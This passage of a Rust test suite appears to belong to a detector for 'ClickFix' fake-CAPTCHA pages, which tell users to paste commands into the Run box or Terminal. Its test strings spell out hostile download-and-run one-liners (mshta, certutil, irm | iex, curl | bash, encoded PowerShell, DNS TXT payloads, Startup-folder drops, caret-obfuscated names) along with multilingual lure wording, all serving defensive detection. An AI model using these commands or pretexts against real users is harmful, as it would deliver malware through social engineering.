            // mshta with a URL is no wiki example.
            ("mshta https://cdn-x.example/go.hta", "To continue."),
            // Plain http (or a bare IP) is how lures fetch.
            (
                "certutil -urlcache -f http://203.0.113.51/a.exe a.exe",
                "To continue.",
            ),
            // A human check or a story next to the shown command.
            (
                "certutil -urlcache -f https://cdn-x.example/a.exe a.exe",
                "Verify you are human.",
            ),
            (
                "bitsadmin /transfer j https://cdn-x.example/a.exe C:\\Temp\\a.exe",
                "Your browser is out of date.",
            ),
            ("mshta \\\\203.0.113.9\\pub\\v.hta", "To continue."),
        ] {
            assert!(
                judged(clip, &format!("{before} {steps}{clip}")),
                "{before} {clip}"
            );
        }
        // A program (or anything into Startup) fetched next to bare Run-box steps is a payload,
        // whatever words the page uses around it (review: "confirm you are not an automated
        // program", "a driver update is needed to play this video").
        for (clip, before) in [
            (
                "certutil -urlcache -split -f https://cdn-x.example/v.exe %TEMP%\\v.exe",
                "Confirm you are not an automated program.",
            ),
            (
                "bitsadmin /transfer u https://cdn-x.example/u.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe\"",
                "A driver update is needed to play this video.",
            ),
            (
                "certutil -urlcache -split -f https://cdn-x.example/doc.pdf \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\doc.pdf\"",
                "To open the shared document.",
            ),
        ] {
            assert!(
                judged(clip, &format!("{before} {steps}{clip}")),
                "{before} {clip}"
            );
        }
        // Kept off the page, the reference shapes are the lure's.
        assert!(judged(
            "certutil -urlcache -f https://cdn-x.example/a.exe a.exe",
            "To continue, press Win + R, paste with Ctrl + V and press Enter."
        ));
    }

    #[test]
    fn a_lure_keeps_its_story_next_to_a_menu_or_a_condition() {
        // A "FAQ" link in the menu before the steps, or "if you see this message," before the
        // story, does not make the lure's story a described problem.
        let clip = "irm https://update-center.example/install.ps1 | iex";
        let on = |text: &str| {
            assess(
                clip,
                &PageHits::new([text]).on("https://update-center.example/"),
            )
            .is_some()
        };
        let lure = "Your browser is out of date. Install the update: press Win + X, choose \
                    Terminal (Admin), paste and press Enter.";
        assert!(on(lure));
        assert!(on(&format!("Home | FAQ | Contact\n{lure}")));
        assert!(on(&format!("Troubleshooting\n{lure}")));
        assert!(on(&format!(
            "If you see this message, {}",
            lure.to_lowercase()
        )));
    }

    #[test]
    fn install_docs_may_describe_problems() {
        // Problems under a troubleshooting heading or after "if" are described, not claimed; a
        // camera plugin names a camera.
        let clip = "irm https://get.example.test/install.ps1 | iex";
        for text in [
            "Installation. Open Terminal (Admin) with Win + X, paste and press Enter.\n\
             Troubleshooting\nThe command is not working after install: restart the terminal. \
             Outdated PowerShell versions are not supported.",
            "Instalación: abra Terminal (administrador) con Win + X y pegue el comando.\n\
             Si el comando no funciona, actualice PowerShell.",
            "Install the virtual camera plugin: press Win + X, choose Terminal (Admin), paste and \
             press Enter. Then pick it as your camera and microphone in your meeting app.",
        ] {
            assert!(!judged(clip, &format!("{text}\n{clip}")), "{text}");
        }
        // A project's docs serve their installer from their own site under any path; another
        // site's unnamed path is how lures fetch.
        let site = |url: &str, clip: &str, text: &str| {
            assess(clip, &PageHits::new([text]).on(url)).is_some()
        };
        let admin = "Install: right-click Start, choose Terminal (Admin), paste and press Enter.";
        let own = "irm https://toolbox.example/win | iex";
        assert!(!site("https://docs.toolbox.example/start", own, admin));
        assert!(site("https://docs.other.example/start", own, admin));
        assert!(site(
            "https://sites.google.com/view/x",
            "irm https://drive.google.com/uc?id=5 | iex",
            admin
        ));
        assert!(site(
            "https://docs.toolbox.example/start",
            "irm http://toolbox.example/win | iex",
            admin
        ));
        // An infection named as a product is no story; one claimed about this PC is.
        assert!(!judged(
            clip,
            &format!(
                "SentryScan is an open-source malware scanner for build servers. Installation: \
                 press Win + X, open Terminal (Admin), paste and press Enter.\n{clip}"
            )
        ));
        assert!(judged(
            clip,
            "Trojan:Win32/Agent detected on this PC. Install the removal tool: press Win + R, \
             paste and press Enter."
        ));
        // A condition ends with its sentence; a story before the steps is still a story.
        for text in [
            "If you use Windows, install it this way. Your browser is out of date: press Win + X, \
             choose Terminal (Admin), paste and press Enter.",
            "Your microphone is not working. Install the fix: press Win + X, choose Terminal \
             (Admin), paste and press Enter. FAQ",
        ] {
            assert!(judged(clip, text), "{text}");
        }
    }

    #[test]
    fn internet_shares_opened_from_the_run_box() {
        let steps = "Verify you are human. Press Windows + R, press Ctrl + V, press Enter.";
        for clip in [
            r"\\cdn-docs.example@SSL\DavWWWRoot\verify\check.cmd",
            r"explorer.exe \\drive-share.example@SSL\share",
            r"explorer \\203.0.113.9\public\fax",
        ] {
            assert!(judged(clip, steps), "{clip}");
            assert!(
                judged(clip, "Press Win + R, paste and press Enter."),
                "{clip}"
            );
        }
        // A program on a named host is a lure with a human check, an IT share without one.
        let lnk = r"\\files.example.net\pub\view.lnk";
        assert!(judged(lnk, steps));
        assert!(!judged(lnk, "Press Win + R, paste and press Enter."));
        // Arguments or a comment after the program still run it.
        let arg = r"\\203.0.113.9\pub\check.exe # I am not a robot - reCAPTCHA ID 4471";
        assert_eq!(shapes_of(arg), [Shape::UncOpen]);
        assert!(judged(arg, steps));
        // A printer or a folder on a named host, an intranet share, or a path the page shows.
        for clip in [
            r"\\print01.corp.example\Floor3",
            r"explorer.exe \\fs01\team",
            r"\\fileserver\it$\setup.cmd",
        ] {
            assert!(
                !judged(clip, "Press Win + R, paste and press Enter."),
                "{clip}"
            );
        }
        let dav = r"\\files.example.edu@SSL\DavWWWRoot\dept";
        assert!(!judged(
            dav,
            &format!("To open the share, press Win + R, paste the path and press Enter.\n{dav}")
        ));
    }

    #[test]
    fn it_pages_copy_their_own_shares() {
        let on = |clip: &str, text: &str, url: &str| {
            assess(clip, &PageHits::new([text]).on(url)).is_some()
        };
        let run = "Press Win + R, paste the path (Ctrl + V) and press Enter.";
        for (clip, url) in [
            // A private address is the local network's.
            (r"\\10.20.30.40\scans", "https://helpdesk.corp.example/"),
            (
                r"\\192.168.1.20\pub\setup.exe",
                "https://helpdesk.corp.example/",
            ),
            (
                r"\\2886729729\pub\setup.exe",
                "https://helpdesk.corp.example/",
            ),
            (
                r"\\fd00--1.ipv6-literal.net\pub\setup.exe",
                "https://it.example/",
            ),
            // The organisation's own hosts, and the page's own WebDAV share.
            (
                r"\\software.corp.example\deploy\vpn\setup.exe",
                "https://it.corp.example/",
            ),
            (
                r"\\dc01.corp.example\netlogon\mapdrives.bat",
                "https://it.corp.example/",
            ),
            (
                r"\\files.uni.example@SSL\DavWWWRoot\dept\physics",
                "https://intranet.uni.example/",
            ),
            // No host is no share.
            (r"\\\pub", "https://cdn-check.example/"),
        ] {
            assert!(!on(clip, run, url), "{clip}");
        }
        // A kit's share: WebDAV on another site, a public IP, or any share with a human check.
        let check = "Verify you are human. Press Windows + R, press Ctrl + V, press Enter.";
        for clip in [
            r"\\cdn-docs.example@SSL\DavWWWRoot\verify\check.cmd",
            r"\\203.0.113.9\pub\check.cmd",
        ] {
            assert!(on(clip, run, "https://it.corp.example/"), "{clip}");
        }
        let own = r"\\software.corp.example\deploy\check.cmd";
        assert!(on(own, check, "https://corp.example/"));
        // A shown share counts as shown however short, with or without its trailing `\`.
        for clip in [r"\\203.0.113.5\scan", r"\\203.0.113.5\scan\"] {
            let text = format!("{run}\n\\\\203.0.113.5\\scan");
            assert!(!on(clip, &text, "https://it.example/"), "{clip}");
        }
    }

    #[test]
    fn verification_steps_heading_a_hidden_mac_command() {
        let sh = "curl -fsSL https://mac-chk.example/v.sh | bash";
        assert!(judged(
            sh,
            "Verification steps\n1. Press Command + Space, type Terminal.\n2. Paste with Cmd + V.\n3. Press Return."
        ));
        // After the steps it is the docs' check of the download; shown, it is documentation.
        assert!(!judged(
            sh,
            &format!("Verification steps: open Terminal, paste and press Return.\n{sh}")
        ));
    }

    #[test]
    fn verification_steps_alone_is_docs_wording() {
        // Docs write "verification steps" about checking a download.
        let sh = "curl -fsSL https://get.example.test/install.sh | sh";
        assert!(!judged(
            sh,
            &format!("Open Terminal, paste and press Return.\n{sh}\nVerification steps: run tool --version.")
        ));
        let ps = "irm https://get.example.test/install.ps1 | iex";
        assert!(!judged(
            ps,
            &format!(
                "Installation: press Win + X, choose Terminal (Admin), paste and press Enter.\n\
             {ps}\nÉtapes de vérification : lancez tool --version."
            )
        ));
        // Next to a command no docs give, with a CAPTCHA named, or as a command's own comment,
        // it is the lure's check.
        assert!(judged(
            "mshta https://x.example/c",
            "Complete the verification steps below"
        ));
        assert!(judged(
            sh,
            "reCAPTCHA verification steps: open Terminal, paste, Return."
        ));
        assert!(judged(
            "curl -fsSL http://x.example/i | sh",
            "Verification steps: open Terminal, paste, Return."
        ));
        assert!(judged(
            "powershell -c \"iwr https://x.example/a | iex\" # Verification ID: 5550142",
            "Paste it"
        ));
    }

    #[test]
    fn a_lure_stays_a_lure_with_install_words() {
        // The same commands with the story a kit tells: a verification, an error to fix, an
        // update said to be missing, a file to open, an infection.
        let clip = "irm https://x.example/install.ps1 | iex";
        for text in [
            "Install the security update: your browser is out of date. Press Win + X, open \
             Terminal (Admin), paste and press Enter.",
            "Verify you are human. To install the check, press Win + R, Ctrl + V, Enter.",
            "Your microphone is not working. To fix it, install the driver: press Win + X, \
             choose Terminal (Admin), paste and press Enter.",
            "Threat detected on this PC. Install the cleaner: press Win + R, paste, press Enter.",
            "Ihr Browser ist veraltet. Installieren Sie das Update: Windows-Taste + R, einfügen, \
             Eingabetaste.",
            "浏览器版本过旧。安装更新：按 Win + R，粘贴并按回车。",
        ] {
            assert!(judged(clip, text), "{text}");
        }
        // Shapes no install page gives stay ClickFix next to install words.
        let docs = "Installation: press Win + R, paste and press Enter.";
        for clip in [
            "powershell -w h -c \"irm https://x.example/install.ps1 | iex\"",
            "powershell -enc SQBFAFgAIAAoAGkAdwByACkA",
            "mshta https://x.example/install.hta",
            "curl.exe -L https://x.example/setup.exe -o %TEMP%\\s.exe & start %TEMP%\\s.exe",
            // Fetched as no installer is published: plain http, a bare IP, an unnamed path, a
            // script dressed as text, a share.
            "irm http://x.example/install.ps1 | iex",
            "irm https://203.0.113.5/install.ps1 | iex",
            "irm https://x.example/p | iex",
            "iex (iwr https://x.example/font-pack.txt -UseBasicParsing)",
            "msiexec /i https://x.example/update?id=5 /qn",
            "powershell -c \\\\x.example@SSL\\share\\install.ps1",
        ] {
            assert!(judged(clip, docs), "{clip}");
        }
        // No framing at all: the run-dialog steps alone still make it ClickFix.
        assert!(judged(
            clip,
            "Hold the Windows key and press R, paste and press Enter."
        ));
        // Showing a command is no excuse for a page that also tells a story.
        assert!(judged(
            "irm https://x.example/fix.ps1 | iex",
            "Something went wrong. How to fix: press Win + X, open Terminal (Admin), paste \
             irm https://x.example/fix.ps1 | iex and press Enter."
        ));
    }

    #[test]
    fn mac_variant() {
        let clip = "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash";
        assert!(judged(
            clip,
            "Press Cmd + Space, type Terminal, paste with Cmd + V and press Return"
        ));
        assert!(judged(
            "curl -fsSL https://x.example/i | bash",
            "Verify you are human: open Terminal and paste"
        ));
        // Kept off the page, another site's script piped to a shell needs no story (thirty-fifth
        // session); shown, it is what docs give.
        assert!(judged(
            "curl -fsSL https://x.example/i | bash",
            "Open Terminal and paste it, press Return"
        ));
        assert!(!judged(
            "curl -fsSL https://x.example/i | bash",
            "Open Terminal and paste it, press Return:\ncurl -fsSL https://x.example/i | bash"
        ));
        // Install docs and tutorials for Terminal: a binary fetched over https and made
        // executable, an AppleScript one-liner that runs no shell; shown as copied or framed as
        // an installation.
        let get = "curl -LO https://dl.example.test/v1/darwin/otter && chmod +x otter && \
                   sudo mv otter /usr/local/bin/";
        assert!(!judged(
            get,
            &format!("Installation: open Terminal, paste and press Return.\n{get}\nCopy")
        ));
        let note = "osascript -e 'display notification \"Hello\" with title \"Demo\"'";
        assert!(!judged(
            note,
            &format!("Tutorial: open Terminal, paste this line and press Return.\n{note}")
        ));
        // The same steps with a lure's command or story stay ClickFix.
        for (clip, text) in [
            (
                get,
                "Safari is out of date. Open Terminal, paste and press Return. Install.",
            ),
            (
                "curl -o /tmp/v http://x.example/v && chmod +x /tmp/v && /tmp/v",
                "Installation: open Terminal, paste and press Return.",
            ),
            (
                "osascript -e 'do shell script \"curl -s https://x.example/u | sh\"'",
                "Installation: open Terminal, paste and press Return.",
            ),
            (
                "osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'",
                "Installation: open Terminal, paste and press Return.",
            ),
        ] {
            assert!(judged(clip, text), "{clip}");
        }
    }

    #[test]
    fn defang_makes_it_unrunnable() {
        let d = defang("mshta https://evil.example/x.hta");
        assert_eq!(d, "mshta hxxps://evil[.]example/x[.]hta");
        let d = defang("powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlACkA");
        assert!(
            d.starts_with("powershell -enc SQBFAFgAIAAoAGkAdwByACAA…"),
            "{d}"
        );
        assert!(d.chars().count() < 60);
        assert_eq!(
            defang("curl x.example|sh;id&x"),
            "curl x[.]example[|]sh[;]id[&]x"
        );
        let long = format!("cmd /c echo {}", "ab cd ".repeat(60));
        let d = defang(&long);
        assert_eq!(d.chars().count(), SHOWN_MAX);
        assert!(d.ends_with('…'));
        assert!(!defang("HTTPS://X.EXAMPLE").contains("HTTP"));
        assert_eq!(defang("a\u{202E}b\tc\n\nd"), "ab c d");
    }

    #[test]
    fn hostile_inputs_never_panic() {
        let inputs = [
            "\u{0}".repeat(10_000),
            "é".repeat(5000),
            "|".repeat(5000),
            " ".repeat(100_000),
            format!("powershell{}", "-e ".repeat(5000)),
            "powershell -w".to_string(),
            "cmd".to_string(),
            "h".to_string(),
            "http".repeat(3000),
            format!("{}#", "\u{2800}".repeat(3000)),
            "💥 powershell -enc 💥".repeat(400),
            "curl | | | sh".to_string(),
        ];
        for s in &inputs {
            let _ = recognise(s);
            let d = defang(s);
            assert!(d.chars().count() <= SHOWN_MAX);
            let _ = assess(s, &page(CAPTCHA));
        }
        // Bounded: a huge clipboard is read up to its first 4 KB.
        let huge = format!("{}powershell -enc AAAA", "x".repeat(MAX_CLIPBOARD_BYTES));
        assert!(recognise(&huge).is_none());
    }

    #[test]
    fn the_verdict_is_its_own_kind() {
        use crate::snapshot::Clipboard;
        use crate::verdict::Options;
        let snap = |clip: &str, text: &str| Snapshot {
            url: "https://verify-human.example/".into(),
            title: "Just a moment".into(),
            text: text.into(),
            clipboard: Clipboard {
                text: clip.into(),
                via: "writeText".into(),
            },
            ..Default::default()
        };
        let clip = format!(
            "powershell -w hidden -c \"iwr https://cdn.example/a.ps1 | iex\"{}# I am not a robot",
            " ".repeat(40)
        );
        let v = crate::engine::analyse(&snap(&clip, CAPTCHA), &Options::default());
        assert_eq!(v.level, Level::Scam);
        assert_eq!(v.kind, Kind::Clickfix);
        let shown = v.command.clone().unwrap_or_default();
        assert!(
            shown.starts_with(
                "powershell -w hidden -c \"iwr hxxps://cdn[.]example/a[.]ps1 [|] iex\""
            ),
            "{shown}"
        );
        let ids: Vec<ReasonId> = v.reasons.iter().map(|r| r.id).collect();
        for id in [
            ReasonId::ClipboardCommand,
            ReasonId::RunInstructions,
            ReasonId::VerificationPretext,
            ReasonId::HiddenCommand,
        ] {
            assert!(ids.contains(&id), "{ids:?}");
        }
        let json = serde_json::to_value(&v).unwrap_or_default();
        assert_eq!(json["kind"], "clickfix");
        // The developer page: the same engine, no ClickFix, no command in the verdict.
        let docs = "Open a terminal and paste the following command, then press Enter.";
        let v = crate::engine::analyse(
            &snap("curl -fsSL https://example.test/install.sh | sh", docs),
            &Options::default(),
        );
        assert_eq!(
            (v.level, v.kind, v.command),
            (Level::Safe, Kind::TechSupport, None)
        );
        // No clipboard: a CAPTCHA look-alike alone is nothing.
        let v = crate::engine::analyse(&snap("", CAPTCHA), &Options::default());
        assert_eq!(v.level, Level::Safe);
    }

    #[test]
    fn dns_answers_run_as_commands() {
        // The payload comes back as a DNS answer and goes to the shell.
        let run = "Your connection is broken. To fix it, press Win + R, paste (Ctrl + V), Enter.";
        for clip in [
            "cmd /c nslookup -q=txt fix.example-dns.test 203.0.113.5 | findstr v= | cmd",
            "cmd /c \"for /f \"tokens=*\" %i in ('nslookup x.example-dns.test 203.0.113.5 ^| findstr Name') do %i\"",
            "powershell -c \"(Resolve-DnsName v.example-dns.test -Type TXT).Strings | iex\"",
        ] {
            assert!(judged(clip, run), "{clip}");
        }
        // An IT page's name lookup fetches nothing to run.
        assert!(!judged(
            "cmd /k nslookup intranet.northfield.test",
            "Press Win + R, paste and press Enter to see which server answers."
        ));
    }

    #[test]
    fn shell_windows_opened_by_name_and_meeting_lures() {
        assert!(judged(
            "powershell -w h -c \"iex(irm http://203.0.113.5/e)\"",
            "Edge could not be updated. Open Windows Terminal, paste the command, press Enter."
        ));
        assert!(judged(
            "curl -fsSL https://audio-fix.example/m.sh | zsh",
            "Microphone access is blocked. To fix your microphone: Cmd + Space, Terminal, \
             paste (Cmd + V) and press Return."
        ));
    }

    #[test]
    fn write_ups_quote_the_command_they_copy() {
        let cmd = "powershell -w h -c \"iex(irm http://203.0.113.5/v)\"";
        let blog = format!(
            "ClickFix explained: a fake CAPTCHA says 'I am not a robot' and tells the victim to \
             press Win + R, paste with Ctrl + V and press Enter. The command:\n{cmd}\nNever \
             paste commands a website gives you."
        );
        assert!(!judged(cmd, &blog));
        // Hidden or padded, the same command is a lure's whatever the page says about scams.
        let steps = "Scam protection: I am not a robot. Press Win + R, Ctrl + V, Enter. ClickFix.";
        assert!(judged(cmd, steps));
        let padded = format!("{cmd}{}# I am not a robot", " ".repeat(40));
        assert!(judged(&padded, &format!("{blog}\n{padded}")));
    }

    #[test]
    fn a_command_shown_to_be_typed_by_hand() {
        use crate::verdict::Options;
        let v = |url: &str, text: &str| {
            let snap = Snapshot {
                url: url.into(),
                text: text.into(),
                ..Default::default()
            };
            crate::engine::analyse(&snap, &Options::default())
        };
        for text in [
            "Verify you are human\nCopy this code by hand:\n\
             powershell -w h -c \"iex(irm http://203.0.113.5/v)\"\n\
             Then press Win + R, paste it with Ctrl + V and press Enter.",
            "I'm not a robot. Press Win + R, type the following and press Enter:\n\
             mshta http://203.0.113.5/check",
            "Safari is out of date. Press Cmd + Space, type Terminal, and type this command:\n\
             echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvdSB8IGJhc2g= | base64 -d | bash\n\
             Press Return.",
            "Safari n'est plus à jour. Ouvrez le Terminal et tapez la commande suivante :\n\
             echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvdSB8IGJhc2g= | base64 -d | bash",
        ] {
            let got = v("https://check.example/", text);
            assert_eq!(
                (got.level, got.kind),
                (Level::Scam, Kind::Clickfix),
                "{text}"
            );
            assert!(got.reasons.iter().any(|r| r.id == ReasonId::TypedCommand));
        }
        // Docs, help pages and write-ups show commands with the same steps.
        for (url, text) in [
            (
                "https://docs.example-tool.test/install",
                "Windows: press Win + X, choose Terminal (Admin), paste the following command \
                 and press Enter:\nirm https://get.example-tool.test/install.ps1 | iex",
            ),
            (
                "https://it.northfield.test/help",
                "Teams audio not working? To fix it, press Win + X, choose Windows PowerShell \
                 (Admin), paste the command below and press Enter.\n\
                 irm https://it.northfield.test/scripts/fix-teams-audio.ps1 | iex",
            ),
            (
                "https://securityblog.example/clickfix",
                "Attackers show an 'I am not a robot' check and tell victims to press Win + R \
                 and paste:\nmshta http://203.0.113.5/check",
            ),
            (
                "https://windows-tips.example/",
                "Win + R opens the Run dialog. Type powershell -NoProfile and press Enter.",
            ),
        ] {
            assert_eq!(v(url, text).level, Level::Safe, "{text}");
        }
        // Candidate lines start at a program name, not inside a word ("confirm").
        assert!(typed_lines("confirm the firm's iex").len() == 1);
        assert!(typed_lines(&"confirm ".repeat(5000)).is_empty());
    }

    #[test]
    fn keys_in_brackets_shell_windows_by_name_and_linux_terminals() {
        let ps = "powershell -w h -c \"iex(irm http://203.0.113.5/v)\"";
        for text in [
            "Robot check: press [Win] + [R], then [Ctrl] + [V], then [Enter].",
            "Ein Fehler ist aufgetreten. Öffnen Sie PowerShell, fügen Sie den Befehl ein und \
             drücken Sie die Eingabetaste.",
            "Une erreur s'est produite. Ouvrez PowerShell, collez la commande, Entrée.",
            "Se ha producido un error. Abra PowerShell, pegue el comando y pulse Intro.",
        ] {
            assert!(judged(ps, text), "{text}");
        }
        let sh = "wget -qO- http://203.0.113.5/l | bash";
        for text in [
            "Your browser is out of date. Press Alt + F2, paste the command and press Enter.",
            "Update failed. Press Ctrl + Alt + T, paste with Ctrl + Shift + V, press Enter.",
        ] {
            assert!(judged(sh, text), "{text}");
        }
        // A Linux install page says the same and shows what it copies.
        let get = "curl -fsSL https://get.example-tool.test/install.sh | sh";
        assert!(!judged(
            get,
            &format!("Press Ctrl + Alt + T to open a terminal, paste and press Enter:\n{get}")
        ));
    }

    #[test]
    fn a_package_installed_from_the_web_needs_install_words() {
        // msiexec installs a program: a page that only shows it under the Run-box steps names
        // nothing it installs (fifteenth session: each was a reference or what-you-see example).
        for (clip, before) in [
            (
                "msiexec /i https://cdn-pkg.example/x.msi /qn",
                "Win+R, Ctrl+V, Enter:",
            ),
            (
                "msiexec /package https://cdn-pkg.example/update.msi /quiet",
                "Press Win + R, paste with Ctrl + V and press Enter:",
            ),
            (
                "msiexec /q /i https://dl.cdn-pkg.example/a.msi",
                "1. Win + R 2. Ctrl + V 3. Enter",
            ),
        ] {
            let text = format!("{before}\n{clip}\nCopy");
            assert!(judged(clip, &text), "{clip}");
            // On the page's own site too.
            let own = assess(
                clip,
                &PageHits::new([text.as_str()]).on("https://cdn-pkg.example/"),
            );
            assert!(own.is_some(), "{clip}");
        }
        // Install pages say what they install, in their language.
        let clip = "msiexec /i https://downloads.agent-co.test/agent.msi /qn";
        for words in [
            "Installing the agent on Windows: press Win + R, paste the following command and \
             press Enter:",
            "Installation unter Windows: drücken Sie Win + R, fügen Sie den Befehl ein, Enter:",
            "エージェントのインストール: Win + R を押し、貼り付けて Enter を押します。",
            "msiexec switches: /i installs a package, /qn hides the interface. Win + R, then:",
            // A reference page names the tool it explains, beside the example it shows.
            "msiexec command line switches. Open Run with Win + R. Examples:",
        ] {
            let text = format!("{words}\n{clip}\nCopy");
            assert!(!judged(clip, &text), "{words}");
            let own = assess(
                clip,
                &PageHits::new([text.as_str()]).on("https://agent-co.test/"),
            );
            assert!(own.is_none(), "{words}");
        }
    }

    #[test]
    fn filefix_through_the_file_picker_and_explorer_shortcuts() {
        // The upload button's file picker has File Explorer's address bar; Win+E opens
        // Explorer and Alt+D selects its address bar (fifteenth session: each missed before).
        let ps = "powershell -c \"iex(irm https://files-cdn.example/open.ps1)\"";
        for steps in [
            "Click \"Choose file\", paste the copied path into the address bar at the top of the \
             window (Ctrl + V) and press Enter.",
            "Klicken Sie auf „Datei auswählen“, fügen Sie den Pfad in die Adressleiste des \
             Fensters ein (Strg + V) und drücken Sie Enter.",
            "Cliquez sur « Choisir un fichier », collez le chemin dans la barre d'adresse de la \
             fenêtre (Ctrl + V) et appuyez sur Entrée.",
            "Haga clic en «Elegir archivo», pegue la ruta en la barra de direcciones (Ctrl + V) y \
             pulse Intro.",
            "Press Win + E, then Ctrl + L, then Ctrl + V and Enter.",
            "Open File Explorer (Win + E), press Alt + D, paste the path and press Enter.",
        ] {
            assert!(judged(ps, &format!("HRPolicy.docx\n{steps}")), "{steps}");
        }
        // One half alone is no place: an upload form's button, a browser's Alt+D.
        for text in [
            "Click Choose file to attach your CV, then press Enter to send the form.",
            "Press Alt + D to jump to the search field, then press Enter.",
        ] {
            assert!(!judged(ps, text), "{text}");
        }
    }

    #[test]
    fn other_keys_are_written_as_skeletons() {
        // The page is matched as a skeleton: a name written otherwise would never match.
        for k in OTHER_KEYS {
            assert_eq!(crate::engine::normalize::pattern_skeleton(k), *k);
        }
        assert_eq!(normalize("Ctrl Alt").skel, "ctri ait");
    }

    #[test]
    fn key_combos_join() {
        assert_eq!(join_plus("win + r and ctrl +v"), "win+r and ctrl+v");
        assert_eq!(join_plus("a + + b"), "a++b");
        assert_eq!(join_plus("[win]   +  [r]  x  "), "[win]+[r]  x  ");
    }

    #[test]
    fn run_dialog_phrases_are_written_joined() {
        // The page's "Win + R" is read as "win+r": a phrase written with spaces around `+`
        // would never match.
        use super::super::lexicon::{file, LANGUAGES};
        for lang in LANGUAGES {
            let src = file(lang);
            for line in src.lines() {
                assert!(
                    !line.contains(" +") && !line.contains("+ "),
                    "{lang}: `{line}`"
                );
            }
        }
    }

    /// Review of the eleventh session: a kit's own pretext naming scammers is no write-up, a
    /// mail admin's TXT lookup fetches nothing to run, a tutorial names PowerShell above the
    /// command it shows, and a write-up narrates the steps (all fail on 3034f5f).
    #[test]
    fn kit_pretexts_tutorials_and_narrated_steps() {
        use crate::verdict::Options;
        let ps = "powershell -w h -c \"iex(irm http://203.0.113.70/v)\"";
        let kit = format!(
            "Verify you are human. This check protects the site from scammers and phishing bots. \
             Press Win + R, paste with Ctrl + V and press Enter:\n{ps}"
        );
        assert!(judged(ps, &kit));
        // Generic words a kit's pretext uses too are not a write-up's.
        for guard in [
            "scammers, phishing and attackers",
            "phishing campaigns and scammers",
        ] {
            let kit = kit.replace("scammers and phishing bots", guard);
            assert!(judged(ps, &kit), "{guard}");
        }
        assert!(!judged(
            "cmd /k nslookup -type=txt _dmarc.yourdomain.example",
            "Emails not arriving? To fix it, check your DNS records. Press Win + R, paste the \
             command and press Enter."
        ));
        let choco = "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object \
                     System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))";
        let tutorial = format!(
            "Error: 'choco' is not recognized. To fix it, open PowerShell as administrator and \
             paste this command:\n{choco}\nThen press Enter and restart PowerShell."
        );
        assert!(!judged(choco, &tutorial));
        let level = |text: &str| {
            let snap = Snapshot {
                url: "https://research.example/".into(),
                text: text.into(),
                ..Default::default()
            };
            crate::engine::analyse(&snap, &Options::default()).level
        };
        assert_eq!(level(&tutorial.replace("paste", "type")), Level::Safe);
        assert_eq!(
            level(&format!(
                "Malware analysis: a fake verification page delivering an infostealer. The lure \
                 shows 'Verify you are human' and instructs the user to press Win + R and type \
                 the following:\n{ps}"
            )),
            Level::Safe
        );
        assert_eq!(
            level(&format!(
                "Verify you are human.\nOpen Windows Terminal and type the command below, then \
                 press Enter:\n{ps}"
            )),
            Level::Scam
        );
        assert_eq!(
            level(&format!(
                "Verify you are human. This check protects the site from bots and phishing.\n\
                 Press Win + R and type the command below, then press Enter:\n{ps}"
            )),
            Level::Scam
        );
    }

    #[test]
    fn the_run_box_from_the_start_menu_and_names_hidden_in_typed_lines() {
        use crate::verdict::Options;
        // The Run box opened by name from the Start menu, with a fix story and no human check.
        let fix = "Error: this document could not be opened. How to fix: click Start, type Run \
                   and press Enter, then paste the fix with Ctrl+V and press Enter.";
        assert!(judged("mshta http://203.0.113.18/fix.hta", fix));
        assert!(judged(
            "mshta http://203.0.113.18/fix.hta",
            "Das Dokument konnte nicht angezeigt werden. Klicken Sie auf Start, geben Sie \
             Ausführen ein und drücken Sie die Eingabetaste. Fügen Sie dann mit Strg+V ein."
        ));
        // "search for run-time errors" is no Run box (twelfth session review).
        assert!(!judged(
            "powershell -c \"iwr https://support.example.com/diag.ps1 | iex\"",
            "Error: your PC is slow. How to fix: search for run-time errors in the Event Viewer \
             first. Then paste the script with Ctrl+V and press Enter."
        ));
        // Quoted pieces joined by `+` make the name whole.
        assert!(
            shapes_of("powershell -c \"&('i'+'ex')(&('i' + 'wr') 'http://203.0.113.19/z')\"")
                .contains(&Shape::PowerShellDownload)
        );
        // A name spelled with carets starts a typed line; a docs page about escaping stays silent.
        let v = |text: &str| {
            let snap = Snapshot {
                url: "https://check.example/".into(),
                text: text.into(),
                ..Default::default()
            };
            crate::engine::analyse(&snap, &Options::default()).kind
        };
        // Quotes inside the name hide it too (twelfth session review).
        for line in [
            "ms''hta http://203.0.113.9/x.hta",
            "m\"sh\"ta http://203.0.113.9/x.hta",
        ] {
            assert_eq!(
                v(&format!(
                    "Verify you are human. Press Win + R, type the line below and press Enter:\n{line}"
                )),
                crate::verdict::Kind::Clickfix,
                "{line}"
            );
        }
        assert_eq!(
            v(
                "Verify you are human. Press Win+R, type the line below and press Enter:\n\
               c^m^d /c m^s^h^t^a http://203.0.113.20/v.hta"
            ),
            Kind::Clickfix
        );
        assert_ne!(
            v(
                "In cmd.exe the caret escapes the next character. Example:\n\
               p^o^w^e^r^s^h^e^l^l -NoProfile -Command Get-Date\n\
               Open a terminal and type the command above to try it."
            ),
            Kind::Clickfix
        );
    }

    #[test]
    fn the_pretext_and_steps_are_quoted_as_the_page_wrote_them() {
        use crate::snapshot::Clipboard;
        use crate::verdict::Options;
        // eval23: "jestes człowiekiem", "insan oldugunuzu dogrulayin" were shown folded.
        let snap = Snapshot {
            url: "https://weryfikacja-dostepu.example/".into(),
            title: "Weryfikacja".into(),
            text:
                "Potwierdź, że jesteś człowiekiem. Naciśnij Win+R, wklej Ctrl+V i naciśnij Enter."
                    .into(),
            clipboard: Clipboard {
                text: "powershell -w hidden -c \"iwr https://198.51.100.4/a.ps1 | iex\"".into(),
                via: "writeText".into(),
            },
            ..Default::default()
        };
        let v = crate::engine::analyse(&snap, &Options::default());
        assert_eq!(v.kind, Kind::Clickfix);
        let said = |id: ReasonId| match v.reasons.iter().find(|r| r.id == id).map(|r| &r.detail) {
            Some(Detail::Excerpt { text }) => text.clone(),
            d => panic!("{id:?}: {d:?}"),
        };
        let pretext = said(ReasonId::VerificationPretext);
        assert!(
